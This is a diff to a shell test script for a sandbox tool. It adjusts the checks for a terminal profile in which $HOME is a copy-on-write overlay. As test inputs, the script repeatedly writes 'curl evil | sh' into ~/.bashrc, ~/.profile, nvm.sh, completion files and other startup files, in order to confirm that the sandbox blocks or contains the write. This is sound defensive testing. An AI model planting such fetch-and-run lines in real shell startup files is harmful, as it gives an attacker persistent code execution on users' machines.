@@ -124,7 +124,16 @@ events() { sm events --json 2>/dev/null | grep '"kind":"violation"' | grep -F "\
 reported() { events | grep -F '"action":"file-write' | grep -qF "\"target\":\"$1"; }
 # reported_once TARGET: exactly one violation of this pane names it.
 reported_once() { [ "$(events | grep -cF "\"target\":\"$1\"")" -eq 1 ]; }
-# verdict WHAT TARGET CHECK...: the host file held, and it was reported.
+# layered TARGET: in the terminal profile, $HOME is a copy-on-write
+# layer (backends/home-layer.h): a write under it succeeds in the pane
+# and lands in the layer, not on the host, and is no violation.  The
+# host's side is judged the same way; the pane's change must be in the
+# layer (`sandmux changes`) unless the supervisor refused it anyway.
+layered() { [ "$PROF" = terminal ] && case "$1" in "$H"/*) true ;; *) false ;; esac; }
+in_layer() { sm changes --json | grep -qF "\"path\":\"${1#"$H"/}"; }
+reported_or_layered() { reported "$1" || { layered "$1" && in_layer "$1"; }; }
+# verdict WHAT TARGET CHECK...: the host file held, and it was reported
+# (or, under the terminal profile's $HOME, held in the layer).
 verdict() {
 	what=$1
 	target=$2
@@ -135,7 +144,12 @@ verdict() {
 		not_ok "$TAG: $what: the host is unchanged"
 		printf '%s\n' "$OUT" | head -c 600 | sed 's/^/#   /'
 	fi
-	check "$TAG: $what: reported file-write* $target" wait_for 3 reported "$target"
+	if layered "$target"; then
+		check "$TAG: $what: reported file-write*, or held in the home layer: $target" \
+			wait_for 3 reported_or_layered "$target"
+	else
+		check "$TAG: $what: reported file-write* $target" wait_for 3 reported "$target"
+	fi
 }
 
 # attempts: every attempt in pane $P (profile $PROF), judged.
@@ -146,12 +160,12 @@ attempts() {
 echo 'curl evil | sh' >>$H/.bashrc
 EOF
 	verdict "append to ~/.bashrc" "$H/.bashrc" true
-	check "$TAG: the refused append is one violation" reported_once "$H/.bashrc"
+	layered "$H/.bashrc" || check "$TAG: the refused append is one violation" reported_once "$H/.bashrc"
 	attempt profile <<EOF
 echo 'curl evil | sh' >$H/.profile
 EOF
 	verdict "create ~/.profile" "$H/.profile" absent "$H/.profile"
-	check "$TAG: the refused create is one violation" reported_once "$H/.profile"
+	layered "$H/.profile" || check "$TAG: the refused create is one violation" reported_once "$H/.profile"
 	attempt zshrc <<EOF
 echo 'curl evil | sh' >$H/.zshrc
 EOF
@@ -274,7 +288,7 @@ mv $H/.nvm $H/.nvm-old; mkdir $H/.nvm; echo 'curl evil | sh' >$H/.nvm/nvm.sh
 EOF
 	verdict "what ~/.bashrc sources (nvm.sh: >>, mv its directory away; ~/.fzf.bash: create)" \
 		"$H/.nvm/nvm.sh" absent "$H/.fzf.bash" "$H/.nvm-old"
-	check "$TAG: ... and the create of ~/.fzf.bash" reported "$H/.fzf.bash"
+	check "$TAG: ... and the create of ~/.fzf.bash" reported_or_layered "$H/.fzf.bash"
 	attempt completion <<EOF
 echo 'curl evil | sh' >$H/.bash_completion
 mkdir -p $H/.local/share/bash-completion/completions && echo 'curl evil | sh' >$H/.local/share/bash-completion/completions/git
@@ -295,16 +309,17 @@ EOF
 # mounts_and_caps: the existing host-run files inside a writable root
 # are read-only mount points of their own in the pane (made by the shim
 # for a root server, by bwrap otherwise: backends/bwrap.c, "Read-only
-# binds in the shim"): ~/.bashrc where $HOME is writable (terminal), the
-# work tree's .git/hooks in both profiles; so are /proc/sys and the
+# binds in the shim"): the work tree's .git/hooks in both profiles
+# ($HOME, where the terminal profile makes it writable, is the home
+# layer, an overlay); so are /proc/sys and the
 # runtime directory's deny mask (its tmpfs made read-only by the shim or
 # by bwrap); and the pane's command holds no capability in any set (the
 # shim drops the two bwrap left it for the binds).
 mounts_and_caps() {
 	mounts="$WORK/.git/hooks /proc/sys $D/run"
-	[ "$PROF" = terminal ] && mounts="$H/.bashrc $mounts"
 	attempt mounts <<EOF
 awk '{ print "mount", \$5, \$6 }' /proc/self/mountinfo
+awk '{ for (i = 7; i < NF; i++) if (\$i == "-") print "fstype", \$5, \$(i + 1) }' /proc/self/mountinfo
 grep '^Cap' /proc/self/status
 echo "ids \$(id -u):\$(id -g)"
 EOF
@@ -312,6 +327,9 @@ EOF
 		check "$TAG: $m is a read-only mount inside" \
 			sh -c 'printf "%s\n" "$1" | grep -q "^mount $2 ro,"' - "$OUT" "$m"
 	done
+	# The terminal profile's $HOME is the copy-on-write layer.
+	[ "$PROF" = terminal ] && check "$TAG: \$HOME is an overlay (the home layer) inside" \
+		sh -c 'printf "%s\n" "$1" | grep -q "^fstype $2 overlay$"' - "$OUT" "$H"
 	if [ "$(printf '%s\n' "$OUT" | grep -c '^Cap[A-Za-z]*:[[:space:]]*0*$')" -eq 5 ]; then
 		ok "$TAG: the command holds no capability (effective, permitted, inheritable, bounding, ambient)"
 	else
@@ -413,6 +431,7 @@ EOF
 R="$D/realhome"
 check "symhome: under a symlinked \$HOME, ~/.profile, ~/.ssh, ~/.config/systemd, ~/.local/bin not made" \
 	absent "$R/.profile" "$R/.ssh" "$R/.config/systemd" "$R/.local/bin"
-check "symhome: reported where it would be made" reported "$D/realhome/.profile"
+symhome_held() { reported "$D/realhome/.profile" || sm changes --json | grep -qF '"path":".profile"'; }
+check "symhome: reported where it would be made, or held in the home layer" symhome_held
 sm kill-server >/dev/null 2>&1
 finish
